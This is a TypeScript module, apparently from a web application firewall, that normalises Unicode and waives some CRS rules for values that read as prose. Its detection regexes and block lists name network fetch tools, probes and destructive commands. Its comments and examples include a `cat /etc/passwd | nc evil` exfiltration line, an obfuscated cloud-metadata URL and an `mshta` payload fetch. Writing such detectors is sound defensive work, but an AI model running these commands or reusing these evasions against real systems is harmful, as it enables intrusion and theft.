/**
 * The API profile's view of one JSON string value or query parameter (session 3, false positives on prose),
 * applied by {@link ./expand.ts} after the nested decodings (`expandApiArgs`) and to query strings
 * (`queryArgsView`):
 *
 * - **Unicode canonical form** ({@link canonicalText}): JSON strings are Unicode text, and the backend sees
 *   code points, never IIS `%u` bytes. CRS' `t:utf8toUnicode,t:urlDecodeUni` keeps only the low byte of every
 *   code point, so CJK, Hebrew or Cyrillic text turns into random ASCII punctuation (`在` U+5728 → `(`, `•` U+2022
 *   → `"`) and libinjection reports SQL in a Chinese delivery note. The value the engine sees is NFKC-normalised
 *   (full-width `＜ｓｃｒｉｐｔ＞` becomes `<script>`: the evasion that folding exists for is still caught) and every
 *   remaining code point above U+00FF becomes a neutral ASCII stand-in: letters and marks `x`, digits `0`,
 *   anything else a space, except the quote look-alikes that legacy best-fit code-page conversions turn into
 *   quotes (`ʼ` U+02BC → `'`; `″` U+2033 is two primes after NFKC, so `''`). ASCII and Latin-1 are kept as
 *   they are.
 * - **Prose waivers** ({@link proseWaivers}): a value that is clearly natural language (at least four words,
 *   two in a query parameter, mostly words, little code punctuation) is exempted from a few CRS rules that fire on words alone, one
 *   family at a time and only when the value lacks the syntax an exploit of that family needs: `x` (941390, a
 *   JavaScript call such as `alert()`: no markup, no `javascript:` URL, no event handler, no string break-out,
 *   every call with inert arguments), `l` (930120, OS file names such as `Program Files`, `/var/log`: the value
 *   does not start with a path, has no `../`, no encoded dots or slashes, no NUL, no stream wrapper), `s`
 *   (942350, `; select …` in a sentence: no quote, comment, backslash or encoded quote, and the value starts
 *   with a word, and every part before a `;` has two bare words in a row, which no SQL context accepts); since
 *   session 4 also `c` (the 932 command rules whose patterns read a backtick as a command separator, for
 *   markdown code spans that each hold one simple command which is not a probe; see {@link markdownCodeText}:
 *   the value is also shown without its spans' opening backticks, as an extra argument those rules inspect) and
 *   `q` (942100 libinjection and 942230, for SQL words in sentences whose quotes are apostrophes or prose
 *   quotations with inert content; see {@link proseQuotesInert}), and `p` (932120, PowerShell cmdlet names such as
 *   `Remove-Item` in a sentence: no statement separator, subexpression, quote or redirection, and the first word is
 *   no cmdlet and no launcher; see {@link powershellInert}); the three need at least four words. The
 *   exemption is carried by the argument's name (see {@link PROSE_PREFIX}); the profile turns it into load-time
 *   target exclusions (`proseExclusionDirectives` in ./rules.ts).
 * - **Inline images** ({@link inlineImageSummary}): a `data:image/<raster>;base64,…` value whose payload is
 *   binary (not text) and carries no script or server-page marker is shown to the engine as a short summary
 *   (`[image/png data, 120 bytes]`) instead of base64 letters, where `;base64` reads as a shell command and
 *   `data:` as a data-scheme injection. Text payloads are decoded and inspected like any base64 value.
 *
 * Values are byte strings (one char per byte, latin1), the engine's contract.
 */

import { lookupWord } from '../detect/sqli.ts';
import { bareTagsInert, inertXmlDocument, sanitizedHtml } from './html.ts';

/**
 * Prefix of the name of an argument exempted from some rules because it is prose:
 * `gatehouse.prose.<families>:<name>`, families sorted (`l`, `s`, `x`), e.g. `gatehouse.prose.lx:json.message`.
 * JSON bodies cannot forge it (their argument names start with `json`); in a query string the view renames a
 * client name in the `gatehouse.` namespace `gatehouse.forged:<name>` (then rule 90105 scores it); in other bodies
 * rule 90106 scores it.
 */
export const PROSE_PREFIX = 'gatehouse.prose.';

/**
 * The prose families and the CRS rules each one exempts: `c` (session 4) the command-word rules that read the
 * delimiter of a markdown code span as a shell command substitution (see {@link markdownCodeText}), `q`
 * (session 4) the SQL rules that fire on SQL keywords in sentences, quoted or not (libinjection 942100,
 * `select … having …` 942230; see {@link proseQuotesInert}), `p` (session 4) the PowerShell cmdlet-name list
 * (932120; see {@link powershellInert}).
 */
export const PROSE_FAMILY_RULES: Readonly<
  Record<
    | 'c'
    | 'e'
    | 'f'
    | 'g'
    | 'h'
    | 'l'
    | 'm'
    | 'n'
    | 'o'
    | 'p'
    | 'q'
    | 'r'
    | 's'
    | 't'
    | 'u'
    | 'v'
    | 'w'
    | 'x'
    | 'y'
    | 'i',
    readonly number[]
  >
> = {
  // Every CRS 932 rule whose pattern holds a backtick (PL1: 932125 932230 932235 932250 932260 932340 932370
  // 932380; PL2+: the others).
  c: [
    932125, 932200, 932206, 932220, 932230, 932231, 932232, 932235, 932236, 932238, 932239, 932240, 932250,
    932260, 932340, 932350, 932370, 932371, 932380,
  ],
  // Rich-text HTML a strict sanitizer passes unchanged (session 5, ./html.ts): the XSS rules that fire on a tag or
  // an attribute alone (PL1: 941100 libinjection, 941160, 941180 on `<!--`; PL2: 941150, 941320, 941340).
  // And 942550 (JSON-based SQL), which reads a quoted brace (`href="{{billing_url}}"`, `data-config='{"a":1}'`).
  // Session 8: whole documents (e-mail templates) too: 941130 (`xmlns:`), 941190 (`<style>` with a media query),
  // 941250 and 941260 (`<meta http-equiv="Content-Type">`, `<meta charset>`: only UTF-8 and the three
  // describing `http-equiv` values are allowed).
  h: [941100, 941110, 941130, 941150, 941160, 941180, 941190, 941250, 941260, 941320, 941340, 942550],
  // A value without a line break (session 8): request smuggling and response splitting need one (921110, 921130).
  n: [921110, 921130],
  // Markup before a parenthesis (session 8: `</strong> (yes, even at night)`): CRS 932130 reads a tag's `>` before
  // `(` as a process substitution; given to rich text and bare tags without `$(`, `${` or a backtick.
  o: [932130],
  // An OAuth redirect URI (session 8, named by its member: ./expand.ts `redirectUri`): `https://localhost:3000/…`
  // is where a browser returns, not a URL the server fetches (90102, 934110: internal addresses; 931100: an IP URL).
  r: [90102, 931100, 934110],
  // `Northwind` as a company or domain name (session 8): 942140's sample-database name.
  w: [942140],
  l: [930120],
  // LaTeX formulas (session 5, latexMathOnly): PHP variable function calls, shell expressions and brace expansion.
  m: [932130, 932280, 933180],
  p: [932120],
  // 942190 (`"select …`) and 942360 (keyword soups) fire on a quoted search phrase too (`"select committee"`).
  // And 942550 (JSON-based SQL: a quote before a brace, `'{workspace}'` in a message), which needs a quote to
  // leave a string as much as the others.
  q: [942100, 942190, 942230, 942360, 942550],
  // Filter expressions of a search or query language (session 6, filterExpressionOnly): JQL, CQL, OData, saved
  // searches. libinjection, quoted `select` and keyword soups.
  // And 90109 (the profile's break-out-and-tautology shape, `' OR type = 'park')`): the grammar balances every quote
  // and refuses tautologies (session 9).
  e: [942100, 942190, 942360, 90109],
  s: [942350],
  x: [941390],
  // Function names before a parenthesis in prose (session 7, inertParentheses): `k = A·exp(−Ea/RT)`, `please
  // quote (incl. VAT)`, `Science of sleep (45 min)`, `your app calls eval() on it`: the PHP function list
  // (933160), Node.js's (934100), the SQL function list (942151) and the delay calls (942160; a delay of a bare
  // number keeps it).
  f: [933160, 934100, 942151, 942160],
  // `union … select … from` across sentences (session 7: "drop out of the union health plan … the select
  // committee report … from 38 to 16"): 942270, unless `union` is followed by `select` (as a statement has it).
  u: [942270],
  // Template tags that call methods of data (session 7, templateCallsInert): automation and notification
  // templates (`{{issue.duedate.plusBusinessDays(3).jiraDate}}`, `{{sprint.endDate.format("dd MMM")}}`): 934200.
  t: [934200],
  // A path glob or a date range (session 7, inertToken): `staging/*` and `2026-01-01--2026-03-31` hold what
  // libinjection reads as a comment (942100).
  g: [942100],
  // A spreadsheet formula (session 9, held-out 18/19: `=IF(B4>0, C4/B4, "")`, `=COUNTIF(C2:C100, "<>")`,
  // `=MID(A2, 3, 4)`; see spreadsheetFormula): libinjection, the SQL function list and `IF(` conditionals.
  y: [942100, 942151, 942230],
  // Survey piped text (session 9, held-out 19: Qualtrics' `${e://Field/nps}`, `${q://QID1/ChoiceGroup/…}`): a
  // shell, JavaScript, PHP or EL reads `${x://…}` as a syntax error, never an expansion (932130, 933135).
  // And 944150 (Log4j lookups, session 10): every `${…}` of such a text is a tag without a lookup prefix.
  v: [932130, 933135, 944150],
  // Template control tags (session 9, held-out 21: `{% if ticket.priority == "urgent" %}` in a help desk macro):
  // CRS 932140 reads `if … ==` as a Windows batch command; granted when the text has no such shape once its plain
  // merge tags are words.
  i: [932140],
};

const utf8 = new TextDecoder('utf-8', { fatal: true });

/** Byte string (latin1 of UTF-8) → JS string, or null when not valid UTF-8. */
export function bytesToText(s: string): string | null {
  for (let i = 0; i < s.length; i++) {
    if (s.charCodeAt(i) > 0x7f) {
      try {
        return utf8.decode(Buffer.from(s, 'latin1'));
      } catch {
        return null;
      }
    }
  }
  return s;
}

/** JS string → byte string (UTF-8 bytes, one char each). */
export function textToBytes(s: string): string {
  for (let i = 0; i < s.length; i++) {
    if (s.charCodeAt(i) > 0x7f) return Buffer.from(s, 'utf8').toString('latin1');
  }
  return s;
}

const LETTER_OR_MARK = /[\p{L}\p{M}]/u;
// Quote look-alikes that legacy "best fit" code-page conversions (SQL Server varchar, Windows ANSI APIs) turn
// into ASCII quotes: folded to the quote they become, so that smuggled quotes are seen as quotes; and the dots
// a URL parser reads as dots.
const BEST_FIT_QUOTES: Readonly<Record<string, string>> = {
  '\u02b9': "'",
  '\u02bb': "'",
  '\u02bc': "'",
  '\u02c8': "'",
  '\u2032': "'",
  '\u02ba': '"',
  '\u2033': '"',
  // The IDNA label separators (UTS #46 maps them to `.`): `http://⑯⑨。②⑤④。⑯⑨。②⑤④/` is 169.254.169.254 to a
  // URL parser.
  '\u3002': '.',
  '\uff61': '.',
};
const DIGIT = /\p{Nd}/u;

/**
 * The canonical form of a byte string that holds UTF-8 text with code points above U+00FF (see the module
 * comment); any other value (ASCII, Latin-1 only, or not valid UTF-8) is returned unchanged.
 * @example
 * canonicalText(textToBytes('請放在管理室，謝謝。')); // 'xxxxxx,xx '
 */
export function canonicalText(bytes: string): string {
  let wide = false;
  for (let i = 0; i < bytes.length; i++) {
    // UTF-8 lead bytes of code points above U+00FF are 0xC4 and up.
    if (bytes.charCodeAt(i) >= 0xc4) {
      wide = true;
      break;
    }
  }
  if (!wide) return bytes;
  const text = bytesToText(bytes);
  if (text === null) return bytes;
  let out = '';
  for (const ch of text.normalize('NFKC')) {
    const c = ch.codePointAt(0) as number;
    if (c <= 0xff) out += ch;
    else if (BEST_FIT_QUOTES[ch] !== undefined) out += BEST_FIT_QUOTES[ch];
    else if (LETTER_OR_MARK.test(ch)) out += 'x';
    else if (DIGIT.test(ch)) out += '0';
    else out += ' ';
  }
  return textToBytes(out);
}

// A word: letters (any script) with single inner apostrophes, dots or hyphens, in ordinary punctuation.
const WORD = /^[("“‘«¿¡*_]*[\p{L}\p{M}][\p{L}\p{M}\p{Nd}]*(?:['’.-][\p{L}\p{M}\p{Nd}]+)*[)"”’»,.!?:;*_…]*$/u;
// Words that are mostly query or shell syntax when they make up a third of a text.
const CODE_WORDS = new Set(
  (
    'select union from where insert into values update delete drop table exec execute sleep having group ' +
    'order by limit null waitfor delay case when then else end join declare cast convert concat char asc desc ' +
    'benchmark alter create truncate information_schema substring ascii version user database schema ' +
    'cat echo curl wget bash sh chmod rm nc ping whoami id ls eval system passwd shadow etc bin tmp'
  ).split(' '),
);
const CODE_CHARS = /[<>{}[\]=;|&$`]/g;
// (And an arrow between spaces, `18 -> 22 units`; session 9.)
const SPACED_SEPARATOR = /(?<=\s)(?:[|&]|->|=>|<-)(?=\s)|\[[ xX]\]|\{\s*\}/g;
const TAG_OR_MENTION = /^[#@][\p{L}\p{N}_]{1,40}[.,!?:]?$|^@$/u;
const LETTER = /\p{L}/gu;

/**
 * True when the text reads as natural language: at least `minWords` (default 4) whitespace-separated tokens, at
 * least 60 % of them words (with at least `minWords` words), at most a third of the words SQL or shell keywords,
 * letters making up at least half of the non-space characters, and at most one code punctuation character
 * (`<>{}[]=;|&$` and backtick) per 40 characters (minimum allowance 2). Query parameters use `minWords` 2
 * ({@link QUERY_MIN_WORDS}): a search box holds short phrases.
 * @example
 * isNaturalLanguage('Does the alert() in the docs example still work?'); // true
 * isNaturalLanguage('<img src=x onerror=alert(1)>'); // false
 * isNaturalLanguage('"program files" windows 11', 2); // true
 */
export function isNaturalLanguage(text: string, minWords = 4): boolean {
  const tokens = text.split(/\s+/).filter((t) => t !== '');
  if (tokens.length < minWords) return false;
  let words = 0;
  let codeWords = 0;
  // Numbers, list markers, amounts, times, emoji, hashtags and mentions are neither words nor code: left out of
  // the share of words (`1. autolyse 1h`, `bulk 5h @ 24°C #sourdough`).
  let neutral = 0;
  for (const t of tokens) {
    if (!WORD.test(t)) {
      if (PLAIN_NUMBER.test(t) || PLAIN_FIGURE.test(t) || TAG_OR_MENTION.test(t) || ABBREVIATION.test(t))
        neutral++;
      continue;
    }
    words++;
    if (CODE_WORDS.has(t.replace(/[^\p{L}\p{Nd}_]/gu, '').toLowerCase())) codeWords++;
  }
  // One code word is allowed in a short search phrase ("select committee").
  if (words < minWords || words < (tokens.length - neutral) * 0.6 || codeWords > Math.max(1, words / 3))
    return false;
  const nonSpace = text.replace(/\s+/g, '').length;
  if (nonSpace - text.replace(LETTER, '').replace(/\s+/g, '').length < nonSpace / 2) return false;
  // A pipe or ampersand between spaces is a typographic separator (`Full-stack dev | Node, React & SQL`), a task
  // box (`- [x] tests`) and empty braces (`return {}`) are no code syntax to count.
  const code = text.replace(SPACED_SEPARATOR, ' ').match(CODE_CHARS)?.length ?? 0;
  return code <= Math.max(2, text.length / 40);
}

// XSS: markup, script URLs, event handlers, entity/escape encodings, template or DOM access, string break-outs.
const XSS_SYNTAX =
  /<[a-z!/?%]|[a-z]script\s*:|\bon[a-z]{3,}\s*=|&#|\\u00|\\x[0-9a-f]{2}|%3c|%22|%27|`|\$\{|\{\{|\bdocument\s*[.[]|\bcookie\b|\blocation\s*[.=[]|\bsrcdoc\b|\bstyle\s*=|\bexpression\s*\(|['"]\s*[-+*/;|&,=}\]]|[)\]}]\s*[;,]\s*[\w.]+\s*\(/i;
// The JavaScript calls 941390 looks for; in prose they must have inert arguments: (), (1), ('text').
const JS_CALL =
  /\b(?:eval|set(?:timeout|interval)|new\s+function|alert|atob|btoa|prompt|import|confirm|console\.(?:log|dir)|fetch)\s*([({])/gi;
const INERT_ARGS = /^\(\s*(?:[0-9.]*|'[^'"()\\<>`]{0,80}'|"[^'"()\\<>`]{0,80}")\s*\)/;
// Files: a value starting like a path, traversal, encoded dots/slashes/NUL, NUL, stream wrappers.
const LFI_SYNTAX =
  /^\s*(?:[/\\~.]|[a-z]:[/\\])|\.\.[/\\]|[/\\]\.\.|%(?:2e|2f|5c|c0|c1|e0|f0|25|00)|\0|\b(?:file|php|zip|phar|data|expect|glob|jar|netdoc|gopher|compress\.[a-z0-9]+|ssh2|rar|ogg)\s*:/i;
// SQL: anything that can end a string literal or start a comment, or a value that starts like an expression.
const SQL_SYNTAX = /['"`\\#]|--|\/\*|\*\/|%2[27]|%5c|^\s*[^\p{L}\s]/iu;
// Words that may follow one another in an ORDER BY / WHERE / SELECT list without a comma or an operator.
const SQL_GLUE = new Set(
  'asc desc nulls first last collate and or not is in like between as null true false distinct all'.split(
    ' ',
  ),
);
const BARE_WORD = /^\p{L}+$/u;

/**
 * True when every statement a `;` would end is not valid SQL by itself: it contains two bare words in a row
 * (`Drop off kids; select gifts`), which no ORDER BY, WHERE or identifier context accepts. Without quotes or
 * comments that is the only way a `; select …` in a value could run: a stacked query after an unquoted prefix.
 */
function noStackedQuery(text: string): boolean {
  const parts = text.split(';');
  for (let i = 0; i < parts.length - 1; i++) {
    const t = (parts[i] as string).trim().split(/\s+/);
    let plain = false;
    for (let j = 0; j + 1 < t.length && !plain; j++) {
      const a = t[j] as string;
      const b = t[j + 1] as string;
      plain =
        BARE_WORD.test(a) &&
        BARE_WORD.test(b) &&
        !SQL_GLUE.has(a.toLowerCase()) &&
        !SQL_GLUE.has(b.toLowerCase()) &&
        !CODE_WORDS.has(a.toLowerCase()) &&
        !CODE_WORDS.has(b.toLowerCase());
    }
    if (!plain) return false;
  }
  return true;
}

// A markdown code span in prose: a backtick after the start, a space or opening punctuation, content on one line
// (1–200 characters, no backtick), a backtick before the end, a space or closing punctuation.
const CODE_SPAN = /(^|[\s(["'“‘])`([^`\n]{1,200})`(?=$|[\s)\]"'”’.,:;!?])/g;
// What a code span's content may not hold for its delimiters to be taken as markdown: shell syntax beyond one
// simple command with literal arguments (substitutions, variables, pipes, lists, redirections, grouping, quoting
// and escapes).
const SPAN_SHELL_SYNTAX = /[$;|&<>(){}\\'"`*?[\]!#~]/;
// Commands whose output or duration alone is what a command-substitution probe is after (identity, system
// information, a delay): a span that runs one of them keeps every rule.
const PROBE_COMMANDS = new Set(
  'whoami id uname hostname sleep usleep timeout env printenv ifconfig ipconfig systeminfo getent'.split(' '),
);

/**
 * The value with the opening delimiter of each markdown code span replaced by a space, when it is text whose every
 * backtick delimits such a span and every span holds one simple command with literal arguments (`ping
 * api.example.com`, `rm -rf dist`); otherwise null. The engine sees this text as an extra argument
 * (`<name>.markdown-text`, src/waf/profile/expand.ts) inspected by every rule, while the value itself is exempted
 * (family `c`) from the command-word rules: those rules then miss only what needs a span's opening backtick as a
 * command separator, and still see every other separator (`;`, `|`, `&&`, `$(`, a newline before a command) in
 * the extra argument. A shell would run a span's command inside a double-quoted string, so a span that runs a
 * probe whose output or duration alone is the signal (`whoami`, `id`, `uname`, `sleep 10`, …) is never taken as
 * markdown; the accepted risk is one other simple command, without metacharacters, between two backticks in a
 * sentence (`ping api.example.com`: an out-of-band probe to a host named in the text reads exactly like it).
 * @example
 * markdownCodeText('I tried `ping api.example.com` and it times out.'); // 'I tried  ping api.example.com` and it times out.'
 * markdownCodeText('Hi `cat /etc/passwd | nc evil 1` there friend'); // null
 */
export function markdownCodeText(text: string): string | null {
  if (!text.includes('`')) return null;
  let ok = true;
  let spans = 0;
  const out = text.replace(CODE_SPAN, (_m, pre: string, code: string) => {
    spans++;
    const command = (code.trim().split(/\s+/)[0] as string).toLowerCase();
    if (SPAN_SHELL_SYNTAX.test(code) || command === '' || PROBE_COMMANDS.has(command.replace(/^.*\//, '')))
      ok = false;
    return `${pre} ${code}\``;
  });
  if (!ok || spans === 0 || text.split('`').length !== 2 * spans + 1) return null;
  return out;
}

// What gives a command position other than the start of a line to CRS' command-word rules (their prefix
// alternatives): `;`, `=`, a backtick, braces, pipes and lists, `$(`/`${`/`$[`, process
// substitutions and here-strings, `()`, and a backslash (escapes). Without any of them the start of each line is
// the only place a command can run (a quote may end a quoted string, but what follows it without a separator is
// still an argument of the command that string belongs to).
// A `$` or `<`/`>` before a digit is a price or a comparison of prose (`$2,450`, `(<10 kg)`, `(< 1 hr/day)`): to
// a shell a positional parameter and a redirection from or to a file named by digits, neither a command.
// An `=` between spaces (`(¾ cup × 2 = 1½ cups)`; session 10) is a word of its own, no assignment: only `name=`
// glued to a word assigns, and only that puts the next word in command position (`x= id`).
const COMMAND_SEPARATORS = /[;`{}|&\\]|(?<![ \t])=|=(?![ \t])|\$(?![0-9])|[<>](?![ \t]?[0-9])|\([ \t]*\)/;
// A line break: a command separator too, so each line of a value starts a command position of its own.
const LINE_BREAK = /\r\n|\r|\n/;
// The arguments such a command line may have: words without inner dots (no host or file names) in ordinary
// punctuation, and plain numbers (`403`, `87.4%`, `(v2)` is a word; `50th %ile` a percentile).
const PLAIN_ARGUMENT_WORD =
  /^[("“‘«¿¡*_@#'「『（%]*[\p{L}\p{M}][\p{L}\p{M}\p{Nd}]*(?:['’-][\p{L}\p{M}\p{Nd}]+)*[)"”’»,.!?:;*_…'،؛؟。、！？）」』]*$/u;
const PLAIN_NUMBER = /^\(?\p{Nd}+(?:[.,]\p{Nd}+)*%?\)?[,.!?:;]?$/u;
// Numbers, times, ranges and punctuation of prose (`09:30`, `(2019–2020):`, `—`, `#412`): no file, option or host.
const PLAIN_FIGURE =
  /^(?:[\p{N}\p{Pd}\p{Ps}\p{Pe}\p{Pi}\p{Pf}:.,%#!?'"’+×·•…~≈≤≥]+|=|[(]?[<>]\p{Nd}[\p{Nd}.,]*[)]?[.,:;]?|v\p{Nd}+(?:\.\p{Nd}+)*[:,.]?|[(\p{Pi}"']*\p{Sc}?\p{Nd}+(?:[.,:]\p{Nd}+)*\p{L}{0,4}\+?[)\p{Pf}"'’.,:;!?]*|(?:\p{Extended_Pictographic}|\p{So}|\u200d|\ufe0f)+|[(\p{Pi}"']*\p{Nd}+(?:-\p{L}+)+[)\p{Pf}"'’.,:;!?]*|[(\p{Pi}"']*\p{Nd}{1,4}(?:[/.-]\p{Nd}{1,4}){1,2}[)\p{Pf}"'’.,:;!?]*)$/u;
// The delay probes: a probe only with a number after them.
const DELAY_COMMANDS = new Set(['sleep', 'usleep', 'timeout']);
// Two words or an amount and a unit joined by a slash (`Airbnb/holiday`, `$120/month`, `£250/yr;`), unless a
// part names a system directory or file: a relative path at most, read from wherever the command runs.
const SLASH_PAIR =
  /^[("“‘~≈]*(?:[\p{L}][\p{L}\p{M}'’-]*|\p{Sc}?[0-9][0-9,.]*)\/[\p{L}][\p{L}\p{M}'’-]*[)"”’»,.!?:;…]*$/u;
const SYSTEM_NAMES =
  /(?:^|[/("“‘~])(?:etc|proc|var|usr|bin|sbin|dev|tmp|home|root|sys|boot|opt|lib|windows|system32|passwd|shadow|hosts)(?:[/)"”’,.!?:;]|$)/i;

function plainPair(t: string): boolean {
  return SLASH_PAIR.test(t) && !SYSTEM_NAMES.test(t);
}
// A semicolon of prose (`waiting on legal; exec review moved`), an ampersand or a pipe between words (`copy &
// paste`, `Full-stack dev | Node`): a command separator to a shell, so what follows it is judged as the start of a
// line (a pipe into a shell or another launcher with nothing after it is refused there).
const PROSE_SEMICOLON = /(?:;|(?<=[ \t])(?:&&|\|\||[&|]))(?=[ \t])/g;
// First words of a prose line that are never waived in command position: probes, and launchers (a launcher's
// arguments are a command; these and the PowerShell/cmd ones of {@link LAUNCHERS}: `iex whoami` runs `whoami`).
const START_LAUNCHERS = new Set(
  'sudo doas su env nohup exec xargs time timeout watch nice command builtin busybox eval sh bash zsh dash ksh'.split(
    ' ',
  ),
);

// An abbreviation of single letters with dots (`e.g.`, `i.e.`, `a.m.`, `U.S.`), a slashed one (`w/`, `n/a`),
// `@`, a temperature (`24°C`) and a checked task box (`- [x] tests`): no host, option or file name.
const ABBREVIATION =
  /^\(?(?:(?:\p{L}\.){2,4}|w\/o?|b\/c|c\/o|n\/a|@|[<>≤≥]=?|\[[xX]\]|\p{Nd}+(?:[.,]\p{Nd}+)?°[CFK]?)[),;:.]?$/iu;
// A search qualifier (`in:#deploys`, `from:@jonas.meyer`, `is:open`): a plain argument unless the command
// fetches what its arguments name (`host:8080/x.sh`).
const SEARCH_QUALIFIER = /^-?[A-Za-z][\w-]{0,30}:[#@]?[\p{L}\p{N}_.*-]{1,80}$/u;
// A markdown link to an http(s) URL without shell syntax, in ordinary punctuation.
const MARKDOWN_LINK =
  /^[(“"]*\[[\p{L}\p{N} .'’-]{1,80}\]\(https?:\/\/[^\s()<>"'`$;|&\\{}]{1,300}\)[)”".,:;!?]*$/u;
// Commands that fetch or connect to what their arguments name.
const NETWORK_TOOLS = new Set(
  (
    'curl wget fetch aria2c lynx links elinks w3m nc ncat netcat ssh scp sftp ftp tftp telnet rsync git socat ' +
    // Package managers and image tools install from a URL and run its scripts (session 10: bare URLs are links).
    'pip pip3 pipx npm npx yarn pnpm bun gem go cargo composer docker podman helm kubectl apt apt-get yum dnf brew ' +
    'snap flatpak conda uv poetry ' +
    // Windows programs that fetch or open what a URL names (session 10 audit 18: `& mshta https://…/x.hta`).
    'mshta start certutil bitsadmin rundll32 regsvr32 msiexec explorer iwr irm invoke-webrequest invoke-restmethod ' +
    'cpan cpanm luarocks uvx deno bunx pnpx pipenv pdm hatch rye mamba micromamba nix nix-env'
  ).split(' '),
);

/** A command word that fetches, also with a version suffix (`pip3.12`, `python3.11 -m pip`; session 10 audit 20). */
function networkTool(word: string): boolean {
  return NETWORK_TOOLS.has(word) || NETWORK_TOOLS.has(word.replace(/[0-9.]+$/, ''));
}

// Commands that destroy or stop something or change who may do what, whatever their arguments: at the start of a
// line or after a separator of prose (`…; rm database`, `…\nkillall node`; session 9 audit 14) they keep the
// command rules.
const SEPARATED_REFUSED = new Set(
  (
    'rm rmdir shred unlink mv cp dd truncate kill killall pkill reboot shutdown halt poweroff systemctl chmod ' +
    'chown chgrp crontab mkfs fdisk iptables useradd userdel usermod'
  ).split(' '),
);
const EMPTY_BRACES = /\{\s*\}/g;
// A menu path of prose (`under Documents > Tax`, `Settings > Billing > Invoices`; session 8): to a shell a
// redirection of the line's output into a file named by a plain word in the working directory, never a command.
const BREADCRUMB = /(?<=\S[ \t]+)>(?=[ \t]+\p{L}[\p{L}\p{M}\p{Nd}'’-]*[,.:;!?)]?(?:\s|$))/gu;
// The mark proseWaivers puts where an HTML tag ended a line (see commandOnlyAtStart).
const AFTER_TAG = '\u0003';
// The `>` markers of a markdown quotation (`> quoted text`, nested `> >`) at the start of a line.
const QUOTE_MARKERS = /(^|\n)[ \t]*(?:>[ \t]?)+(?=[^\s>])/g;

// Shell quoting inside a word (`"whoami"`, `w'h'o"am"i`): removed before the word is read as a command name, as
// the shell does (audit, session 9: `…; "whoami"` in a sentence ran a probe the list did not recognise).
const SHELL_QUOTES = /["'\\\u2018\u2019\u201c\u201d]/g;

/** A token as a command name as written (case kept): quotes, leading punctuation and any directory part removed. */
function commandWordAsWritten(token: string): string {
  return token
    .replace(SHELL_QUOTES, '')
    .replace(/^[^\p{L}\p{Nd}./]+/u, '')
    .replace(/^.*\//, '');
}

// Probes that exist on Unix only, where command names are case-sensitive (`ID` runs nothing); the others
// (`whoami`, `hostname`, `ipconfig`, `systeminfo`) also run on Windows, whatever their case.
const UNIX_PROBES = new Set('id uname sleep usleep timeout env printenv ifconfig getent'.split(' '));

/** A token as a command name: leading punctuation and any directory part removed, lower-cased. */
function commandWord(token: string): string {
  return token
    .replace(SHELL_QUOTES, '')
    .replace(/^[^\p{L}\p{Nd}./]+/u, '')
    .replace(/^.*\//, '')
    .toLowerCase();
}

const COMPOUND_START = /(?:^|[\n;&|(`!])[ \t!]*(?:case|if|for|while|until|select)[ \t]/;
const COMPOUND_END = /(?:^|[\s;&|)])(?:esac|fi|done)(?=$|[\s;&|)])/;
// A URL in prose, bare (`the link (https://portal.example.com/r/8Kq2?utm_source=mail) was broken`) or as a
// markdown link's target: without a separator, substitution, quote or space in it, one word to a shell (its `=`
// assigns nothing after the first word, its `?` globs nothing that exists), an argument a command that fetches URLs
// would fetch (session 10, blind corpus 28: CRS 932235 reads `=mail` as a command).
const LINK_TARGET = /\]\(https?:\/\/[^\s()<>"'`$;|&\\{}]{1,300}\)/g;
const BARE_LINK = /(?<!\]\()(?<![\w/.-])https?:\/\/[^\s()<>"'`$;|&\\{}]{1,300}/g;

/** The text with URLs as markdown links to a neutral target (judged as {@link MARKDOWN_LINK} arguments). */
function linksAsWords(text: string): string {
  if (!text.includes('://')) return text;
  return text.replace(LINK_TARGET, '](https://link)').replace(BARE_LINK, '[link](https://link)');
}

// Shell words after which a parenthesis is syntax (`case x in (a) …`, `[[ … ( … ) ]]`) or that open a compound
// command spanning lines.
const COMPOUND_WORDS = new Set(
  'case esac select for if then elif else fi while until do done function coproc time [[ { !'.split(' '),
);

/**
 * The lines of a value a POSIX shell could run: up to and including the first line whose arguments open a
 * parenthesis (`Traceback (most recent call last):`) with no quote anywhere before it. That is a syntax error, and
 * a non-interactive shell exits on it without running a later line (session 10: pasted Python tracebacks, whose
 * frames hold `<module>` and quotes). The line itself stays and is judged whole (cmd.exe runs the first line of
 * a value, whatever its parentheses). A line that starts a compound command (`case x in (a) id`) is no such error.
 */
function reachableLines(text: string): string {
  if (!text.includes('(')) return text;
  const lines = text.split(LINE_BREAK);
  for (let k = 0; k < lines.length; k++) {
    const line = lines[k] as string;
    const open = line.indexOf('(');
    // A quote, an escape or a comment before the parenthesis: the parenthesis may be literal or commented out
    // (session 10 audit 17: `# Traceback (…)` is a comment and the next line runs).
    if (/["'\\]|(?:^|\s)#/.test(open === -1 ? line : line.slice(0, open + 1))) return text;
    const tokens = line.split(/\s+/).filter((t) => t !== '');
    const first = tokens.findIndex((t) => t.startsWith('('));
    if (first >= 1 && !COMPOUND_WORDS.has((tokens[0] as string).toLowerCase().replace(/^!+/, ''))) {
      if (k + 1 >= lines.length) return text;
      return unreachableInQuotes(text) ? lines.slice(0, k + 1).join('\n') : text;
    }
  }
  return text;
}

/**
 * Whether a value that ends a POSIX script with a syntax error is also inert where it lands inside a backend's
 * quoted string (`sh -c "echo \"$v\""`): there the parenthesis is literal and no error stops the shell (session 10
 * audit 17: a backtick on a later line ran). Nothing expands inside double quotes (`$`, backtick, backslash), and
 * the stretches a value's own quotes leave outside the backend's quotes, with either kind of quote, hold no line
 * break, separator, parenthesis, brace or comment.
 */
function unreachableInQuotes(text: string): boolean {
  if (/[`$\\]/.test(text)) return false;
  for (const quote of ['"', "'"]) {
    const parts = text.split(quote);
    for (let i = 1; i < parts.length; i += 2)
      if (/[\r\n;&|<>(){}]|(?:^|\s)#/.test(parts[i] as string)) return false;
  }
  return true;
}

/**
 * True when a prose value's only command positions are the starts of its lines and the first word of each line is
 * no probe and no launcher (family `c` without code spans; a `;` before a space starts a line): issue titles and descriptions that start with a tool's name
 * (`docker-compose fails on arm64`, `python3 crashes on startup`, `wget is not installed`) read to CRS'
 * command-word rules as a command line, and so do the lines of a markdown description (`**Actual**: the command
 * exits with code 1.`). Without a separator or substitution anywhere in the value ({@link COMMAND_SEPARATORS})
 * a command can run only at the start of a line (a line break separates commands), and every other token of the
 * line must be a plain word or number (no option, path, host name, glob or URL), so that command would get only
 * plain-word arguments; a first word that is a probe (`whoami`, `sleep`, …, whose output or
 * duration alone is the signal) or a launcher (`sudo`, `env`, `time`, …, whose arguments are a command) keeps
 * the rules.
 * @example
 * commandOnlyAtStart('docker-compose fails on arm64 after the upgrade'); // true
 * commandOnlyAtStart('sleep 8 hours then retry the job'); // false
